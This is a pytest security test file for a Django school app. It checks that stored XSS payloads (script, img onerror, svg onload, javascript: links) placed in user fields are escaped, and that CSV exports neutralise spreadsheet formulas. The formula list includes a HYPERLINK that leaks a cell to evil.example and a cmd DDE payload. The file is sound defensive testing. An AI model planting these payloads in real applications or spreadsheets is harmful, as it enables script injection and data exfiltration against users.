"""Stored XSS and CSV injection. A corpus of payloads is put in names, titles, comments, survey
answers and an upload's file name; the pages that show them are opened in Chromium with the CSP
switched off (so the test proves the escaping, not just the CSP) and nothing may run. Every CSV
download neutralises cells that a spreadsheet would run as a formula.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from coproschool.csv_export import csv_safe_cell
from evaluation import services as survey_services
from evaluation.charts import ShareRow, share_chart
from people import services as people_services
from projects.models import Stage
from projects.services import voting
from tests.browser.conftest import browser_type_launch_args  # noqa: F401 - Debian's Chromium
from tests.factories import PupilFactory, QuestionFactory, SurveyFactory
from tests.security.world import ROSTER_CSV, build_world

# Each vector sets window.__xss or opens a dialog if it ever runs.
SCRIPT = "<script>window.__xss=1;alert(1)</script>"
IMG = '"><img src=x onerror="window.__xss=2;alert(2)">'
SVG = "'><svg onload=window.__xss=3;alert(3)>"
LINK = '<a href="javascript:window.__xss=4">link</a>javascript:alert(4)'
TEMPLATE = "{{7*7}}{% debug %}"
PAYLOAD = f"{SCRIPT}{IMG}{SVG}{TEMPLATE}"  # 119 characters: fits every title
LONG_PAYLOAD = f"{PAYLOAD}{LINK}<iframe srcdoc='<script>parent.__xss=5</script>'></iframe>"
MARKUP = [SCRIPT, IMG, SVG, '<a href="javascript:', "<iframe"]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def poison(world) -> None:
    """Put the payloads wherever people type text that others see."""
    user = world.pupil.user
    user.first_name, user.last_name = PAYLOAD, "Smith"
    user.save()
    world.staff.user.last_name = PAYLOAD
    world.staff.user.save()
    for obj, fields in (
        (world.need, {"title": PAYLOAD, "problem": LONG_PAYLOAD, "affects": PAYLOAD}),
        (world.need_comment, {"body": LONG_PAYLOAD}),
        (world.project, {"title": PAYLOAD, "summary": LONG_PAYLOAD}),
        (world.idea, {"title": PAYLOAD, "description": LONG_PAYLOAD, "who_it_helps": PAYLOAD}),
        (world.idea_comment, {"body": LONG_PAYLOAD}),
        (world.decision, {"title": PAYLOAD}),
        (world.task, {"title": PAYLOAD}),
        (world.session, {"place": PAYLOAD, "agenda": LONG_PAYLOAD}),
        (world.goal, {"goal": PAYLOAD, "steps": LONG_PAYLOAD}),
        (world.notification, {"title": PAYLOAD, "body": LONG_PAYLOAD}),
        (world.report, {"reason": LONG_PAYLOAD}),
        (world.survey, {"title": PAYLOAD, "intro": LONG_PAYLOAD}),
        (world.picture, {"alt_text": PAYLOAD}),  # an attribute value: alt="..."
        (world.waiting_picture, {"alt_text": PAYLOAD}),
    ):
        for name, value in fields.items():
            setattr(obj, name, value)
        obj.save()
    world.question.text = PAYLOAD
    world.question.save()
    # Written answers are shown once five people answered.
    text_question = world.survey.questions.get(type="short_text")
    for pupil in [world.pupil, world.pupil2, world.pupil3, *PupilFactory.create_batch(2, school=world.school)]:
        survey_services.response_submit(
            survey=world.survey, membership=pupil, answers={world.question.pk: 4, text_question.pk: PAYLOAD}
        )
    people_services.roster_import_preview(
        school=world.school, uploaded_by=world.staff, data=ROSTER_CSV, file_name=f"{PAYLOAD}.csv"
    )


def pages(world) -> dict[str, list[str]]:
    """Role -> the pages that show the poisoned text."""
    w = world
    return {
        "staff": [
            reverse("projects:need_list"),
            reverse("projects:need_detail", args=[w.need.pk]),
            reverse("projects:project_list"),
            reverse("projects:project_detail", args=[w.project.pk]),
            reverse("projects:idea_list", args=[w.project.pk]),
            reverse("projects:idea_detail", args=[w.idea.pk]),
            reverse("projects:decision_detail", args=[w.decision.pk]),
            reverse("projects:task_board", args=[w.project.pk]),
            reverse("projects:task_detail", args=[w.task.pk]),
            reverse("projects:session_detail", args=[w.session.pk]),
            reverse("projects:goal_detail", args=[w.goal.pk]),
            reverse("projects:moderation"),
            reverse("projects:picture_queue"),
            reverse("projects:dashboard"),
            reverse("people:list"),
            reverse("people:detail", args=[w.pupil.pk]),
            reverse("people:roster_upload"),
            reverse("evaluation:results", args=[w.survey.pk]),
            reverse("evaluation:builder", args=[w.survey.pk]),
        ],
        "pupil": [
            reverse("home"),
            reverse("notifications:inbox"),
            reverse("projects:need_detail", args=[w.need.pk]),
            reverse("projects:idea_detail", args=[w.idea.pk]),
            reverse("projects:portfolio", args=[w.pupil.pk]),
        ],
    }


# --- escaping, checked on the HTML -----------------------------------------------------------------


@pytest.mark.django_db
def test_payloads_are_escaped_on_every_page_that_shows_them():
    world = build_world("x")
    poison(world)
    unescaped = []
    for role, urls in pages(world).items():
        client = Client()
        client.force_login(getattr(world, role).user)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            html = response.content.decode()
            unescaped += [f"{role} {url}: {marker}" for marker in MARKUP if marker in html]
            assert "&lt;script&gt;" in html or "&lt;img" in html or "&#x27;&gt;&lt;svg" in html, (
                f"{url} shows no payload"
            )
            assert "{{7*7}}" in html or "{{7*7}}" not in PAYLOAD, url
    assert not unescaped, "\n".join(unescaped)


def test_server_drawn_charts_escape_their_labels():
    """Charts are inserted with |safe, so they must escape what people typed (question text)."""
    svg = share_chart(chart_id="c", title=PAYLOAD, rows=[ShareRow(label=LONG_PAYLOAD, count=7, total=9)])
    assert not [marker for marker in MARKUP if marker in svg]
    assert "&lt;script&gt;" in svg


# --- in the browser, CSP off -----------------------------------------------------------------------


@pytest.fixture(scope="session")
def browser_context_args(browser_context_args):
    # The CSP would stop an injected script anyway; switch it off so escaping alone must hold.
    return {**browser_context_args, "bypass_csp": True}


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_no_payload_runs_in_the_browser(page, live_server):
    world = build_world("x")
    poison(world)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    ran = []
    for role, urls in pages(world).items():
        page.context.clear_cookies()
        page.goto(f"{live_server.url}/accounts/login/")
        page.get_by_label("Username or email").fill(getattr(world, role).user.username)
        page.get_by_label("Password").fill("correct horse battery")
        page.get_by_role("button", name="Sign in", exact=True).click()
        page.wait_for_load_state()
        for url in urls:
            page.goto(f"{live_server.url}{url}")
            page.wait_for_load_state("load")
            if page.evaluate("() => window.__xss !== undefined"):
                ran.append(f"{role} {url}")
            assert page.locator("a[href^='javascript:' i]").count() == 0, url
    assert not ran and not dialogs, f"ran: {ran}, dialogs: {dialogs}"


# --- CSV injection -----------------------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_cell_becomes_text(formula):
    assert csv_safe_cell(formula) == "'" + formula


@pytest.mark.parametrize("value", ["+1.00", "-0.5", "12", 3, -2.5, None, "Plain words", ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_safe_cell(value) == value


def _cells(response) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


@pytest.mark.django_db
def test_every_csv_export_neutralises_formulas():
    world = build_world("c")
    world.need.title = FORMULAS[0]
    world.need.problem = FORMULAS[5]
    world.need.save()
    world.pupil.user.first_name = FORMULAS[1]
    world.pupil.user.save()
    survey = SurveyFactory(school=world.school, title=FORMULAS[3])
    QuestionFactory(survey=survey, type="single", text=FORMULAS[3], choices=[FORMULAS[2], FORMULAS[4]])
    voting.ballot_cast(decision=world.decision, voter=world.pupil, choices=[world.idea.pk])
    staff = Client()
    staff.force_login(world.staff.user)
    exports = [
        reverse("projects:need_export", kwargs={"fmt": "csv"}),
        reverse("projects:decision_turnout_csv", args=[world.decision.pk]),
        reverse("evaluation:results_csv", args=[survey.pk]),
        reverse("evaluation:school_report_csv"),
    ]
    seen = set()
    for url in exports:
        response = staff.get(url)
        assert response.status_code == 200, url
        for cell in _cells(response):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (
                cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).isdigit()
            ), f"{url}: {cell!r}"
            seen |= {formula for formula in FORMULAS if cell.startswith("'" + formula)}
    assert {FORMULAS[0], FORMULAS[1], FORMULAS[3], FORMULAS[5]} <= seen  # the payloads were exported, quoted
    assert world.project.stage == Stage.CO_DESIGN
